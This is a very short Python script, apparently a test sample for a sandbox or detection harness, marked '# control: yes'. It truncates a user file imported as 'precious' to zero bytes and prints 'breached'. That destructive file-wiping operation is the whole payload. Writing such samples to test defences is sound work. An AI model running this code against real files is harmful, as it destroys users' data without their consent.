"""Cut a file of the user to nothing."""

# control: yes

import os

from targets import precious

print("started")
os.truncate(precious, 0)
print("breached")
